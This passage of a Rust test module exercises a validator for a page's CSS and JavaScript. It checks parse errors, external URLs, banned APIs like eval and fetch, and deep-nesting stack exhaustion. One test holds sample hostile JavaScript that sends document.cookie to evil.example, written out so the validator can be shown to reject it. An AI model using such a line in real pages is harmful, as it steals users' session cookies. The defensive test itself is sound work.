        let good = ".site-header, .nav { display: flex }\n.nav-toggle:hover { color: red }\n.nav-list li + li { margin: 0 }\n:is(.title, .menu) > h2 { font-size: 2rem }\n.visit, .contact-form, .site-footer { padding: 1rem }\n@media (min-width: 48rem) { .nav-toggle { display: none } }\n@media (prefers-reduced-motion: reduce) { * { animation: none } }\n";
        let v = css(good, &page);
        assert!(v.clean(), "{v:#?}");
    }

    #[test]
    fn css_problems_are_diagnosed() {
        let page = shape(PAGE);
        let v = css("Here is the CSS: body { color: red }\n.x { color: }", &page);
        assert!(
            v.must.iter().any(|m| m.contains("do not parse") && m.contains("line 1")),
            "{v:#?}"
        );
        assert!(v.must.iter().any(|m| m.contains("none of the page's classes")), "{v:#?}");
        let v = css(
            "@import url(https://fonts.example/x.css);\n.nav { background: url('//cdn.example/bg.png') }\n.title { color: red",
            &page,
        );
        assert!(v.must.iter().any(|m| m.contains("cut off")), "{v:#?}");
        assert!(
            v.must.iter().any(|m| m.contains("fonts.example") && m.contains("cdn.example")),
            "{v:#?}"
        );
        assert!(v.should.iter().any(|m| m.contains("unstyled")), "{v:#?}");
    }

    #[test]
    fn js_is_parsed_and_its_lookups_checked() {
        let page = shape(PAGE);
        let good = "'use strict';\nconst t = document.querySelector('.nav-toggle');\nconst l = document.getElementById('nav-list');\nif (t && l) t.addEventListener('click', () => { l.classList.toggle('open'); });\ndocument.querySelectorAll('#contact input[name=\"x.y\"]').forEach((i) => i.closest('.contact-form'));\n";
        assert!(js(good, &page).clean(), "{:#?}", js(good, &page));
        let v = js(
            "const a = document.getElementById('menu-btn');\nfetch('/x');\nnew XMLHttpRequest();\ndocument.write('x');\neval('1');\na.innerHTML = '<b>x</b>';\ndocument.querySelector('.cart .nav');",
            &page,
        );
        let must = v.must.join("\n");
        for needle in
            ["fetch()", "new XMLHttpRequest()", "document.write()", "eval()", "#menu-btn, .cart"]
        {
            assert!(must.contains(needle), "{needle}: {must}");
        }
        assert!(v.should[0].contains("innerHTML"));
        // The same, reached through the global object or by navigating.
        let v = js(
            "window.fetch('/x');\nglobalThis['eval']('1');\nnew window.WebSocket('wss://x');\nlocation.href = 'https://evil.example/?' + document.cookie;\nnew Image().src = 'https://evil.example/p';\nwindow.open('https://x');\nlocation = '/';",
            &page,
        );
        let must = v.must.join("\n");
        for needle in [
            "window.fetch()",
            "globalThis.eval()",
            "new WebSocket()",
            "location = …",
            ".src = an external URL",
            "window.open()",
        ] {
            assert!(must.contains(needle), "{needle}: {must}");
        }
        assert!(
            js("const img = new Image();\nimg.src = 'assets/images/a.png';", &page).must.is_empty()
        );
        let v = js("function a() {\n  if (x) {\n    return 1;\n", &page);
        assert!(v.must[0].contains("does not parse") && v.must[0].contains("line"), "{v:#?}");
    }

    #[test]
    fn deep_nesting_is_refused_before_parsing_and_the_limit_parses() {
        let page = shape(PAGE);
        let deep_js = format!("{}1{}", "(".repeat(50_000), ")".repeat(50_000));
        assert!(js(&deep_js, &page).must[0].contains("50000 levels deep"));
        let deep_css =
            format!(".a {{ width: {}1px{} }}", "calc(".repeat(40_000), ")".repeat(40_000));
        assert!(css(&deep_css, &page).must[0].contains("levels deep"));
        let nested =
            format!("{}.a{{color:red}}{}", "@media screen{".repeat(15_000), "}".repeat(15_000));
        assert!(css(&nested, &page).must[0].contains("levels deep"));
        // Right at the limit, both parsers run on a test thread's small stack.
        let at_limit = format!("x = {}1{};", "(".repeat(MAX_NESTING), ")".repeat(MAX_NESTING));
        assert!(js(&at_limit, &page).passed(), "{:?}", js(&at_limit, &page));
        let at_limit = format!(
            "{}.nav{{color:red}}{}",
            "@media screen{".repeat(MAX_NESTING - 1),
            "}".repeat(MAX_NESTING - 1)
        );
        assert!(!css(&at_limit, &page).must.iter().any(|m| m.contains("levels deep")));
        assert_eq!(nesting("a('(', \"[\") /* { */ {[]}"), 2);
    }

    /// The nesting estimate can be fooled (a quote in a comment hides brackets from it); the
    /// guarded parse must then still neither overflow the stack nor pass the code.
    #[test]
    fn deep_code_cannot_exhaust_the_stack() {
        let page = shape(PAGE);
        let n = MAX_CODE_BYTES / 2 - 16;
        let js_deep = format!("// it's\nx = {}1{};", "(".repeat(n), ")".repeat(n));
        assert!(nesting(&js_deep) <= MAX_NESTING, "the estimate is fooled");
        let v = js(&js_deep, &page);
        assert!(v.passed() || !v.must.is_empty());
        let arrays = format!("// it's\nx = {}1{};", "[".repeat(n), "]".repeat(n));
        let _ = js(&arrays, &page);
        // Recursion without brackets: unary operators, arrow functions, conditionals.
        for deep in [
            format!("x = {}1;", "!".repeat(2 * n)),
            format!("x = {}1;", "a=>".repeat(2 * n / 3)),
            format!("x = {}1;", "a?b:".repeat(2 * n / 4)),
            format!("x = {}1;", "new ".repeat(2 * n / 4)),
        ] {
            assert!(deep.len() <= MAX_CODE_BYTES);
            let _ = js(&deep, &page);
        }
        let css_deep = format!(
            ".a{{content:\"x\n}} {}.nav{{color:red}}{}",
            "@media screen{".repeat(n / 15),
            "}".repeat(n / 15)
        );
        let _ = css(&css_deep, &page);
        let too_long = "a".repeat(MAX_CODE_BYTES + 1);
        assert!(js(&too_long, &page).must[0].contains("KiB"));
    }

    #[test]
    fn the_outline_survives_text_changes_only() {
        let before = shape(PAGE);
        let polished = PAGE.replace("baked before dawn", "<em>lovingly</em> baked before dawn");
        assert!(same_outline(&before, &shape(&polished)).clean());
        let broken = PAGE.replace(
            r#"<section id="visit" class="visit">"#,
            r#"<section id="find-us" class="visit">"#,
        );
        let v = same_outline(&before, &shape(&broken));
        assert!(
            v.must[0].contains("section#visit.visit") && v.must[0].contains("section#find-us"),
            "{v:#?}"
        );
    }
}
